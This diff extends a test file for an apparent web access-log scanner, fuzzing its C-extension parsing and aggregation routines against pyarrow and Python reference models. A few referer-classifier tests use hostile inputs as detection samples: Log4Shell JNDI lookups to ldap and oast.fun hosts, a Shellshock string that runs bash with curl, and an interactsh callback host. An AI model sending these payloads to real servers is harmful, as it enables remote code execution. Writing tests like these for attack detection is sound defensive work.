@@ -4,6 +4,7 @@ RE2 pattern, then the split on quotes and blanks), byte for byte, on every line.
 from __future__ import annotations
 
 from collections import Counter
+from itertools import compress
 from typing import Any
 
 import pyarrow as pa
@@ -170,6 +171,45 @@ def test_fuzz_arbitrary_bytes_are_cut_as_pyarrow_cuts_them(fmt: str, lines: list
     assert_same_cut(lines, fmt)
 
 
+#: every byte a value's class leaves out, and others (the vector scan of a value stops at each of the first kind)
+#: (not 0x0a, which ends a line, nor 0xa0, which only the C cut leaves out of a value: see the test after this one)
+_STOP_BYTES = [bytes((c,)) for c in [*range(0x0a), *range(0x0b, 0x20), 0x7f]] + [
+    b" ", b'"', b"[", b"]", b"\\", b",", b":", b"a", b"\x80", b"\xff", b"\x9f", b"\xa1"]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.sampled_from(sorted(CASES)), st.integers(0, 40), st.sampled_from(["u", "R", "r", "h", "T", "P"]),
+       st.sampled_from(_STOP_BYTES), st.integers(0, 60), st.integers(0, 3))
+def test_fuzz_long_values_stopped_at_every_lane_are_cut_as_pyarrow_cuts_them(fmt: str, at: int, field: str,
+                                                                              stop: bytes, length: int,
+                                                                              which: int) -> None:
+    """A value 16 bytes or longer is scanned 16 bytes at a time (SSE2): a byte out of its class at each lane of
+    a block, in the last block or after it, and at a run's end, ends it where the byte-by-byte scan would."""
+    plan = plan_of(fmt)
+    if field not in plan.fields:
+        return
+    line = CASES[fmt][which % len(CASES[fmt])]
+    ok, fields = pyarrow_cut([line], plan)
+    value = fields[field][0]
+    if not ok[0] or not value:
+        return
+    long = (value * (1 + length // max(1, len(value))))[:max(length, len(value))]
+    changed = long[:at] + stop + long[at + 1:] if at < len(long) else long
+    assert_same_cut([line.replace(value, long, 1), line.replace(value, changed, 1), line], fmt)
+
+
+def test_a_long_address_holding_the_collapse_s_byte_in_any_lane_goes_to_the_line_parser() -> None:
+    """0xA0 (a collapsed list's blank) is out of the class of every unquoted value but a list's in the C cut: in
+    any lane of a 16-byte block of a long value, the line is rejected (the line parser reads it)."""
+    plan = plan_of(COMBINED_TIMED)
+    line = GOOD[0]
+    addr = line.split(b" ", 1)[0]
+    for at in range(40):
+        long = (b"1" * 40)[:at] + b"\xa0" + b"1" * (40 - at)
+        ok, _fields, rejected = native_cut([line.replace(addr, long, 1), line.replace(addr, b"1" * 41, 1)], plan)
+        assert ok == [False, True] and rejected == [line.replace(addr, long, 1)]
+
+
 def _path_counts_reference(counts: dict[bytes, int]) -> dict[bytes, int]:
     """access.all_paths' loop, as it was written in Python."""
     out: dict[bytes, int] = {}
@@ -276,3 +316,402 @@ def test_decode_request_uses_the_c_unquote() -> None:
     assert classify._unquote is _cut.unquote
     assert classify.referer_exploit(b"https://x.example/?q=%24%7Bjndi%3Aldap%3A%2F%2Fa.b%2Fc%7D") == "log4shell_in_referer"
     assert classify.nginx_uri(b"/wp-login%2ephp") == b"/wp-login.php"
+
+
+# -- combos: the distinct combinations of coded columns (ArrowScanner._combos) ------------------------------------
+
+def _scanners() -> tuple[Any, Any]:
+    """A scanner with the C extension's combos and one with the pyarrow kernels'."""
+    native = Accumulator(ScanOptions(log_format=COMBINED_TIMED, arrow_min_buffer=0))
+    kernels = Accumulator(ScanOptions(log_format=COMBINED_TIMED, arrow_min_buffer=0, native_cut=False))
+    for acc in (native, kernels):
+        acc.feed(b"\n".join(GOOD) + b"\n")
+    assert native.arrow is not None and kernels.arrow is not None
+    assert native.arrow.combos is _cut.combos and kernels.arrow.combos is None
+    return native.arrow, kernels.arrow
+
+
+_SCANNERS: list[tuple[Any, Any]] = []
+_combo_value = {
+    "bytes": st.one_of(st.none(), st.sampled_from([b"", b"a", b"b", b"ab", b"\x00", b"\xff" * 3])),
+    "int64": st.one_of(st.none(), st.integers(-3, 3), st.sampled_from([2 ** 62, -(2 ** 63)])),
+    "int32": st.one_of(st.none(), st.integers(0, 4)),
+}
+_ARROW_TYPE = {"bytes": pa.large_binary(), "int64": pa.int64(), "int32": pa.int32()}
+
+
+@st.composite
+def combo_case(draw: st.DrawFn) -> tuple[list[Any], Any, bool]:
+    """1 to 3 columns of one length (nulls, collisions), sliced anywhere, and a keep mask (nulls too) or None."""
+    kinds = draw(st.lists(st.sampled_from(sorted(_combo_value)), min_size=1, max_size=3))
+    n = draw(st.integers(0, 60))
+    head, tail = draw(st.integers(0, 3)), draw(st.integers(0, 3))
+    cols = [pa.array(draw(st.lists(_combo_value[k], min_size=n + head + tail, max_size=n + head + tail)),
+                     _ARROW_TYPE[k]).slice(head, n) for k in kinds]
+    keep = None
+    if draw(st.booleans()):
+        keep = pa.array(draw(st.lists(st.one_of(st.none(), st.booleans()), min_size=n + 2, max_size=n + 2)),
+                        pa.bool_()).slice(draw(st.integers(0, 2)), n)
+    return cols, keep, draw(st.booleans())
+
+
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(combo_case())
+def test_fuzz_combos_in_c_equal_the_pyarrow_kernels(case: tuple[list[Any], Any, bool]) -> None:
+    """_cut.combos (the visitors, latencies, bursts, pairs of the arrow scan) finds the combinations, their counts and
+    their order that dictionary_encode, int64 keys and value_counts/unique find: rows with a null value or not kept
+    (false or null) left out, in the order of their first row, for columns and masks sliced anywhere."""
+    if not _SCANNERS:
+        _SCANNERS.append(_scanners())
+    native, kernels = _SCANNERS[0]
+    cols, keep, count = case
+    want = kernels._combos(cols, keep, count)
+    assert native._combos(cols, keep, count) == want
+    # counted into a dict: Counter.update of the combinations' counts (tuples of the values; a value for one column)
+    keys = list(zip(*want[0], strict=True)) if len(cols) > 1 else want[0][0]
+    into: Counter[Any] = Counter({keys[0]: 7} if keys else {})  # (one combination counted already)
+    expect = Counter(into)
+    expect.update(dict(zip(keys, want[1], strict=True)) if count else {})
+    if count:
+        coded = [native._coded(c) for c in cols]
+        mask = None if keep is None else (keep.buffers()[1], keep.offset, keep.buffers()[0] if keep.null_count else None)
+        assert _cut.combos(coded, mask, True, into) is None
+        assert into == expect and list(into.items()) == list(expect.items())
+
+
+def _combos_model(cols: list[tuple[list[Any], bytes, int, int, bytes | None]],
+                  keep: tuple[bytes, int, bytes | None] | None) -> tuple[list[list[Any]], list[int]]:
+    """What combos is to find, in plain Python over the raw buffers."""
+    def bit(b: bytes, i: int) -> bool:
+        return bool(b[i >> 3] >> (i & 7) & 1)
+    n = cols[0][3]
+    found: dict[tuple[int, ...], int] = {}
+    for r in range(n):
+        if keep is not None and (not bit(keep[0], keep[1] + r) or (keep[2] is not None and not bit(keep[2], keep[1] + r))):
+            continue
+        codes = []
+        for keys, data, off, _n, valid in cols:
+            if valid is not None and not bit(valid, off + r):
+                break
+            c = int.from_bytes(data[4 * (off + r):4 * (off + r) + 4], "little", signed=True)
+            if not 0 <= c < len(keys):
+                raise IndexError(c)
+            codes.append(c)
+        else:
+            found[tuple(codes)] = found.get(tuple(codes), 0) + 1
+    return ([[cols[j][0][k[j]] for k in found] for j in range(len(cols))], list(found.values()))
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.integers(1, 3).flatmap(lambda k: st.tuples(
+    st.integers(0, 40), st.lists(st.tuples(st.integers(0, 6), st.binary(max_size=200), st.integers(0, 9),
+                                           st.one_of(st.none(), st.binary(max_size=30))), min_size=k, max_size=k),
+    st.one_of(st.none(), st.tuples(st.binary(max_size=30), st.integers(0, 9), st.one_of(st.none(), st.binary(max_size=30)))),
+)))
+def test_fuzz_combos_of_hostile_buffers_raise_or_agree_with_a_python_model(
+        case: tuple[int, list[tuple[int, bytes, int, bytes | None]], tuple[bytes, int, bytes | None] | None]) -> None:
+    """Random bytes as codes, bitmaps and masks, short buffers, offsets past the end: combos reads nothing out of
+    bounds — it refuses short buffers (ValueError) and codes out of their keys (IndexError), else finds what a
+    plain Python reading of the same buffers finds."""
+    n, raw, keep = case
+    cols = [([b"k%d" % i for i in range(nkeys)], data, off, n, valid) for nkeys, data, off, valid in raw]
+    short = any(4 * (off + n) > len(data) or (valid is not None and off + n > 8 * len(valid))
+                for _k, data, off, _n, valid in cols)
+    short = short or keep is not None and (keep[1] + n > 8 * len(keep[0])
+                                           or keep[2] is not None and keep[1] + n > 8 * len(keep[2]))
+    if short:
+        with pytest.raises(ValueError, match="too short"):
+            _cut.combos(cols, keep, True, None)
+        return
+    try:
+        want = _combos_model(cols, keep)
+    except IndexError:
+        with pytest.raises(IndexError, match="out of its keys"):
+            _cut.combos(cols, keep, True, None)
+        return
+    values, counts = _cut.combos(cols, keep, True, None) or ((), [])
+    assert (list(values), counts) == want
+
+
+def test_combos_refuse_odd_arguments_and_count_many_rows() -> None:
+    col = pa.array([0, 1, 1], pa.int32())
+    data = col.buffers()[1]
+    for bad, err in [([], ValueError), ([([b"a", b"b"], data, 0, 3, None)] * 9, ValueError),
+                     ([([b"a", b"b"], data, 0, 3, None), ([b"a", b"b"], data, 0, 2, None)], ValueError),
+                     ([((b"a", b"b"), data, 0, 3, None)], TypeError), ([([b"a", b"b"], data, -1, 3, None)], ValueError),
+                     ([([b"a", b"b"], data, 2 ** 62, 2 ** 62, None)], ValueError),
+                     ([([b"a", b"b"], data, 0, 3, "no buffer")], TypeError), (5, TypeError)]:
+        with pytest.raises(err):
+            _cut.combos(bad, None, True, None)
+    with pytest.raises(TypeError):
+        _cut.combos([([b"a", b"b"], data, 0, 3, None)], None, True, [])
+    with pytest.raises(ValueError, match="too short"):
+        _cut.combos([([b"a", b"b"], data, 0, 3, None)], (b"", 0, None), True, None)
+    with pytest.raises(IndexError):
+        _cut.combos([([b"a"], data, 0, 3, None)], None, True, None)
+    assert _cut.combos([([b"a", b"b"], data, 0, 0, None)], None, True, None) == (([],), [])
+    many = pa.array([3] * (1 << 20) + [0], pa.int32())
+    got: dict[Any, int] = {b"d": 2 ** 64}
+    _cut.combos([([b"a", b"b", b"c", b"d"], many.buffers()[1], 0, len(many), None)] * 2, None, True, got)
+    assert got == {b"d": 2 ** 64, (b"d", b"d"): 1 << 20, (b"a", b"a"): 1}
+    _cut.combos([([b"a", b"b", b"c", b"d"], many.buffers()[1], 0, len(many), None)], None, True, got)
+    assert got == {b"d": 2 ** 64 + (1 << 20), (b"d", b"d"): 1 << 20, (b"a", b"a"): 1, b"a": 1}
+
+
+# -- request_ids: the endpoint id and static path of each distinct request line -----------------------------------
+
+def _request_ids_model(lines: list[bytes], ep_of: dict[bytes, bytes], static_of: dict[bytes, bytes | None],
+                       ep_ids: dict[bytes, int], ep_list: list[bytes]) -> tuple[list[int], list[bytes | None], bool]:
+    """ArrowScanner._aggregate's Python code that request_ids replaces (ids given in order of first appearance)."""
+    eps = [ep_of[x] for x in lines]
+    for e in dict.fromkeys(eps):
+        if e not in ep_ids:
+            ep_ids[e] = len(ep_list)
+            ep_list.append(e)
+    sp_of = [static_of[x] for x in lines]
+    return [ep_ids[e] for e in eps], sp_of, any(sp is not None for sp in sp_of)
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.binary(max_size=6), max_size=30), st.lists(st.binary(max_size=2), min_size=1, max_size=6),
+       st.lists(st.one_of(st.none(), st.binary(max_size=4)), min_size=1, max_size=5), st.integers(0, 4), st.randoms())
+def test_fuzz_request_ids_in_c_equal_the_python_maps(lines: list[bytes], endpoints: list[bytes],
+                                                     statics: list[bytes | None], known: int, rnd: Any) -> None:
+    """_cut.request_ids gives each line the id of its endpoint (new endpoints numbered on, in order of first
+    appearance, appended to the list) and its static path, as the maps it replaces did."""
+    ep_of = {x: rnd.choice(endpoints) for x in lines}
+    static_of = {x: rnd.choice(statics) for x in lines}
+    ep_list = list(dict.fromkeys(endpoints))[:known]
+    ep_ids = {e: i for i, e in enumerate(ep_list)}
+    want_ids, want_ep_list = dict(ep_ids), list(ep_list)
+    want = _request_ids_model(lines, ep_of, static_of, want_ids, want_ep_list)
+    ids, sp_of, any_static = _cut.request_ids(lines, ep_of, static_of, ep_ids, ep_list)
+    assert (pa.Array.from_buffers(pa.int32(), len(lines), [None, pa.py_buffer(ids)]).to_pylist(), sp_of,
+            any_static) == want
+    assert ep_ids == want_ids and ep_list == want_ep_list and len(ids) == 4 * len(lines)
+
+
+def test_request_ids_refuse_unlearned_lines_and_odd_ids() -> None:
+    with pytest.raises(KeyError):
+        _cut.request_ids([b"a", b"b"], {b"a": b"e"}, {b"a": None, b"b": None}, {}, [])
+    with pytest.raises(KeyError):
+        _cut.request_ids([b"a"], {b"a": b"e"}, {}, {}, [])
+    for ids, err in [({b"e": "0"}, TypeError), ({b"e": -1}, ValueError), ({b"e": 2 ** 31}, ValueError),
+                     ({b"e": 2 ** 70}, OverflowError)]:
+        with pytest.raises(err):
+            _cut.request_ids([b"a"], {b"a": b"e"}, {b"a": None}, ids, [b"e"])
+    for args in [((b"a",), {}, {}, {}, []), ([b"a"], {}, {}, {}, ()), ([b"a"], [], {}, {}, [])]:
+        with pytest.raises(TypeError):
+            _cut.request_ids(*args)
+    assert _cut.request_ids([], {}, {}, {}, []) == (b"", [], False)
+    ep_ids: dict[bytes, int] = {b"e": 2 ** 31 - 1}
+    ids, sp_of, any_static = _cut.request_ids([b"a", b"b"], {b"a": b"e", b"b": b"f"}, {b"a": None, b"b": b"/s.css"},
+                                              ep_ids, [b"x"])
+    assert ids == (2 ** 31 - 1).to_bytes(4, "little") + (1).to_bytes(4, "little") and sp_of == [None, b"/s.css"]
+    assert any_static and ep_ids == {b"e": 2 ** 31 - 1, b"f": 1}
+
+
+# -- request_shapes: new request lines of the common shape, and their static files --------------------------------
+
+_shape_piece = st.sampled_from([b"GET", b"HEAD", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"POST", b"get", b"GETX",
+                                b" ", b"/", b"/a", b".css", b".CsS", b".Js", b".js", b"?", b"?x.css", b"%", b"@", b"\t",
+                                b"\x00", b"\x0b", b"\x0c", b"\r", b"\n", b"\xff", b"HTTP/1.1", b"HTTP/1.0", b"HTTP/2",
+                                b"HTTP/2.0", b"HTTP/3", b"HTTP/3.0", b"HTTP/1.2", b"HTTP/2.", b"x", b".", b"#", b"1"])
+_shape_line = st.one_of(st.lists(_shape_piece, max_size=10).map(b"".join), st.binary(max_size=40),
+                        st.builds(lambda m, u, p: m + b" " + u + b" " + p,
+                                  st.sampled_from([b"GET", b"HEAD", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"POST"]),
+                                  st.lists(_shape_piece, max_size=6).map(lambda x: b"/" + b"".join(x)),
+                                  st.sampled_from([b"HTTP/1.1", b"HTTP/1.0", b"HTTP/2", b"HTTP/2.0", b"HTTP/3",
+                                                   b"HTTP/3.0", b"HTTP/1.1 ", b"HTTP/4"])))
+_extensions = st.one_of(st.none(), st.lists(st.sampled_from([b".css", b".js", b".png", b".woff2", b".c", b".x-y",
+                                                             b".7z"]), max_size=4, unique=True).map(tuple))
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.lists(_shape_line, max_size=30), _extensions, st.integers(0, 3))
+@example([b"GET /a.CSS HTTP/1.1", b"GET /.css HTTP/2", b"GET / HTTP/2.0", b"OPTIONS /x.Js?y HTTP/3"], (b".css", b".js"),
+         0)
+def test_fuzz_request_shapes_in_c_equal_re2(lines: list[bytes], extensions: tuple[bytes, ...] | None,
+                                            head: int) -> None:
+    """_cut.request_shapes finds the lines RE2 matches with SIMPLE_REQUEST, and among them the URLs the static
+    pattern of the extensions matches (their path up to '?'), for an array sliced anywhere."""
+    from upkeeper.logs.arrowscan import SIMPLE_REQUEST, static_pattern
+
+    arr = pa.array([b"GET / HTTP/1.1"] * head + lines, pa.large_binary()).slice(head)
+    simple = pc.match_substring_regex(arr, SIMPLE_REQUEST).to_pylist()
+    _valid, offsets, data = arr.buffers()
+    bits, statics = _cut.request_shapes(offsets, data if data is not None else b"", arr.offset, len(arr), extensions)
+    got = pa.Array.from_buffers(pa.bool_(), len(arr), [None, pa.py_buffer(bits)]).to_pylist()
+    assert got == simple
+    urls = [x.split(b" ")[1] for x, ok in zip(lines, simple, strict=True) if ok]
+    rx = static_pattern(frozenset(extensions)) if extensions is not None else None
+    want = ([(k, u.split(b"?", 1)[0]) for k, u in enumerate(urls)
+             if rx and pc.match_substring_regex(pa.array([u], pa.large_binary()), rx)[0].as_py()]
+            if extensions is not None else [])
+    assert statics == want
+
+
+def test_request_shapes_refuse_offsets_out_of_range_and_odd_extensions() -> None:
+    arr = pa.array([b"GET / HTTP/1.1", b"GET /x.css HTTP/1.1"], pa.large_binary())
+    _valid, offsets, data = arr.buffers()
+    for start, n in [(-1, 1), (0, 3), (2, 1), (0, -1), (2 ** 60, 1)]:
+        with pytest.raises(ValueError, match="out of range"):
+            _cut.request_shapes(offsets, data, start, n, None)
+    bad = pa.array([16, 8, 30], pa.int64()).buffers()[1]  # decreasing, then past the data
+    with pytest.raises(ValueError, match="out of range"):
+        _cut.request_shapes(bad, data, 0, 2, None)
+    for exts in [[b".css"], (b".css", ".js"), (1,)]:
+        with pytest.raises(TypeError):
+            _cut.request_shapes(offsets, data, 0, 2, exts)
+    assert _cut.request_shapes(offsets, data, 0, 2, (b".css",)) == (b"\x03", [(1, b"/x.css")])
+    assert _cut.request_shapes(offsets, data, 1, 1, (b".css",)) == (b"\x01", [(0, b"/x.css")])
+    assert _cut.request_shapes(offsets, b"", 0, 0, ()) == (b"", [])
+
+
+# -- learn_store: what is learned of new request lines, stored ------------------------------------------------------
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.binary(max_size=5), max_size=20, unique=True), st.lists(st.binary(max_size=2), min_size=1,
+                                                                             max_size=5), st.randoms())
+def test_fuzz_storing_learned_lines_in_c_equals_the_python_updates(raws: list[bytes], endpoints: list[bytes],
+                                                                   rnd: Any) -> None:
+    """_cut.learn_store fills the endpoint intern table, ep_of, page_of and static_of as the Python updates it
+    replaces did: the same entries, the same order, the interned endpoint objects."""
+    eps = [bytes(rnd.choice(endpoints)) for _ in raws]  # (equal, not identical, objects: interned on the way)
+    statics = sorted((k, b"/s%d" % k) for k in range(len(raws)) if rnd.random() < 0.3)
+    front = frozenset(rnd.sample(endpoints, min(2, len(endpoints))))
+    old = {b"old": b"E"}
+
+    def state() -> tuple[dict[bytes, bytes], dict[bytes, bytes], dict[bytes, bytes | None], set[bytes]]:
+        return dict(old), {b"x": b"E"}, {b"x": None}, {b"x"}
+
+    intern, ep_of, static_of, page_of = state()
+    eps2 = list(map(intern.setdefault, eps, eps))
+    ep_of.update(zip(raws, eps2, strict=True))
+    page_of.update(compress(raws, [e in front for e in eps2]))
+    static_of.update(dict.fromkeys(raws))
+    for k, path in statics:
+        static_of[raws[k]] = path
+    c_intern, c_ep_of, c_static_of, c_page_of = state()
+    _cut.learn_store(raws, list(eps), c_intern, c_ep_of, c_static_of, c_page_of, front, statics)
+    assert list(c_intern.items()) == list(intern.items()) and list(c_ep_of.items()) == list(ep_of.items())
+    assert list(c_static_of.items()) == list(static_of.items()) and c_page_of == page_of
+    assert all(c_ep_of[r] is c_intern[c_ep_of[r]] for r in raws)
+
+
+def test_storing_learned_lines_refuses_odd_arguments() -> None:
+    args: list[Any] = [[b"a", b"b"], [b"E", b"F"], {}, {}, {}, set(), frozenset()]
+    _cut.learn_store(*args, None)
+    for statics, err in [([(1, b"/p"), (0, b"/q")], ValueError), ([(2, b"/p")], ValueError), ([(-1, b"/p")], ValueError),
+                         ([(0,)], TypeError), ([b"x"], TypeError), ((0, b"/p"), TypeError)]:
+        with pytest.raises(err):
+            _cut.learn_store(*args[:2], {}, {}, {}, set(), frozenset(), statics)
+    with pytest.raises(ValueError):
+        _cut.learn_store([b"a"], [], {}, {}, {}, set(), frozenset(), None)
+    with pytest.raises(TypeError):
+        _cut.learn_store([b"a"], [b"E"], {}, {}, {}, set(), [b"E"], None)
+    with pytest.raises(TypeError):  # an unhashable endpoint: the dict's own error
+        _cut.learn_store([b"a"], [[1]], {}, {}, {}, set(), frozenset(), None)
+
+
+# -- referers: the host each names (access._referer_host), the exploit prefilter (classify._REFERER_HINT) -----------
+
+_ref_piece = st.sampled_from([b"http", b"HTTPS", b"h", b"a1+.-", b"x" * 15, b"y" * 16, b"://", b":/", b":", b"/", b"//",
+                              b"@", b"user", b"u:p", b"[", b"]", b"[::1]", b"[2001:DB8::1]", b"[fe80::g]", b"[1.2.3.4",
+                              b"Example.COM", b"example.com.", b"..", b".", b"?", b"#", b":8080", b" ", b"\t", b"\x0b",
+                              b"\x0c", b"\r", b"\n", b"\xa0", b"\xff", b"\x00", b"-", b"%", b"{", b"\\", b"OAST.",
+                              b"oast", b"Interact.SH", b"interact.s", b"1", b"\xc9xample"])
+_referer = st.one_of(st.lists(_ref_piece, max_size=10).map(b"".join), st.binary(max_size=30))
+
+
+@settings(max_examples=1000, deadline=None)
+@given(st.lists(_referer, max_size=20))
+@example([b"http://user@:80/", b"http://[x@/", b"http://a@b@c/", b"http://@host", b" HTTP://Host.Example.. ", b"",
+          b"  ", b"-", b"a" * 16 + b"://h", b"a" * 17 + b"://h", b"http://user@[::1]x", b"http://[::1]@/"])
+def test_fuzz_referer_hosts_in_c_equal_the_regex(referers: list[bytes]) -> None:
+    """_cut.referer_hosts reads each referer's host as access._referer_host does with Python's re (the user part,
+    backtracking, brackets, case, blanks, final dots)."""
+    from upkeeper.logs.access import _referer_host
+
+    assert _cut.referer_hosts(referers) == [_referer_host(x) for x in referers]
+
+
+@settings(max_examples=1000, deadline=None)
+@given(st.lists(_referer, max_size=20), st.integers(8170, 8195))
+def test_fuzz_referer_hints_in_c_equal_the_prefilter(referers: list[bytes], pad: int) -> None:
+    """_cut.referer_hints finds classify._REFERER_HINT in each referer's first AGENT_CLASSIFIED_BYTES exactly as the
+    regex does, a hint across that limit included; and the exploits judged with it are referer_exploit's."""
+    from upkeeper.logs.access import _referer_exploits
+    from upkeeper.logs.classify import _REFERER_HINT, AGENT_CLASSIFIED_BYTES, referer_exploit
+
+    long = [b"a" * (pad - len(x) // 2) + x for x in referers]  # (a hint around byte 8192)
+    values = referers + long + [b"x" * pad + b"oast."]
+    assert _cut.referer_hints(values) == [bool(_REFERER_HINT.search(x, 0, AGENT_CLASSIFIED_BYTES)) for x in values]
+    assert _referer_exploits(values) == [referer_exploit(x) for x in values]
+
+
+def test_referer_functions_refuse_what_is_not_a_list_of_bytes() -> None:
+    for f in (_cut.referer_hosts, _cut.referer_hints):
+        for bad in [(b"x",), [b"x", "y"], [None], b"x"]:
+            with pytest.raises(TypeError):
+                f(bad)  # type: ignore[arg-type]
+        assert f([]) == []
+    from upkeeper.logs.access import _referer_exploits
+
+    found = _referer_exploits([b"() { :; }; /bin/bash -c 'curl x'", b"${jndi:ldap://x.oast.fun/a}",
+                               b"http://abc.INTERACT.sh/", b"https://rentals.example/listings/5703"])
+    assert found == ["shellshock_in_referer", "log4shell_in_referer", "interactsh_in_referer", None]
+
+
+# -- minute_tokens: time tokens keyed by their minute (ArrowScanner._minutes) ----------------------------------------
+
+_time_piece = st.sampled_from([b"01/Mar/2024:10:00:", b"01/Mar/2024:10:01:", b"02/Mar/2024:23:59:", b"00", b"59", b"60",
+                               b"61", b"62", b"99", b"0", b"x", b"\xff\x00", b" +0000", b"-0700", b"", b"ab"])
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.one_of(
+    st.lists(st.one_of(st.none(), st.lists(_time_piece, max_size=4).map(b"".join)), max_size=40),
+    # (mostly one width: 20, a minute among three, any two bytes as seconds, now and then another length)
+    st.lists(st.one_of(st.none(), st.builds(lambda m, sec: b"01/Mar/2024:10:0" + m + b":" + sec,
+                                            st.sampled_from([b"0", b"1", b"9"]), st.binary(min_size=2, max_size=2)),
+                       st.sampled_from([b"01/Mar/2024:10:00:0", b"01/Mar/2024:10:00:000"])), max_size=60)),
+       st.one_of(st.just(20), st.integers(0, 30)), st.one_of(st.just(18), st.integers(-1, 30)), st.booleans())
+@example([b"01/Mar/2024:10:00:00", None, b"01/Mar/2024:10:00:59", b"01/Mar/2024:10:01:61"], 20, 18, True)
+def test_fuzz_minute_tokens_in_c_equal_the_pyarrow_kernels(tokens: list[bytes | None], width: int, s0: int,
+                                                           sorted_: bool) -> None:
+    """_cut.minute_tokens gives None unless every valid token is ``width`` long (and some row is valid, and the slice
+    two bytes of it); else the column binary_replace_slice makes, its distinct tokens and the distinct seconds
+    binary_slice finds (in order of first appearance, which the kernels' unique keeps too)."""
+    if sorted_:
+        tokens = sorted(tokens, key=lambda x: (x is None, x or b""))
+    col = pa.array(tokens, pa.large_binary())
+    validity, offsets, data = col.buffers()
+    got = _cut.minute_tokens(offsets, data if data is not None else b"", validity if col.null_count else None,
+                             len(col), width, s0, s0 + 2)
+    lengths = pc.min_max(pc.binary_length(col)).as_py()
+    if not (lengths["min"] == lengths["max"] == width) or s0 < 0 or s0 + 2 > width:
+        assert got is None
+        return
+    assert got is not None
+    offs, text, mins, secs = got
+    tm = pc.binary_replace_slice(col, s0, s0 + 2, b"00")
+    col2 = pa.Array.from_buffers(pa.large_binary(), len(col), [validity if col.null_count else None,
+                                                              pa.py_buffer(offs), pa.py_buffer(text)])
+    assert col2.to_pylist() == tm.to_pylist()
+    assert mins == pc.drop_null(pc.unique(tm)).to_pylist()
+    assert secs == pc.drop_null(pc.unique(pc.binary_slice(col, s0, s0 + 2))).to_pylist()
+
+
+def test_minute_tokens_refuse_short_buffers() -> None:
+    col = pa.array([b"0123", b"4567"], pa.large_binary())
+    validity, offsets, data = col.buffers()
+    with pytest.raises(ValueError, match="shorter"):
+        _cut.minute_tokens(offsets, data, None, 3, 4, 0, 2)
+    with pytest.raises(ValueError, match="shorter"):
+        _cut.minute_tokens(offsets, data, b"", 2, 4, 0, 2)
+    with pytest.raises(ValueError, match="out of range"):
+        _cut.minute_tokens(pa.array([0, 4, 99], pa.int64()).buffers()[1], data, None, 2, 4, 0, 2)
+    assert _cut.minute_tokens(offsets, data, None, 2, 4, 1, 3) == (
+        pa.array([0, 4, 8], pa.int64()).buffers()[1].to_pybytes(), b"00034007", [b"0003", b"4007"], [b"12", b"56"])
+    assert _cut.minute_tokens(offsets, data, b"\x00", 2, 4, 0, 2) is None  # (no valid row)
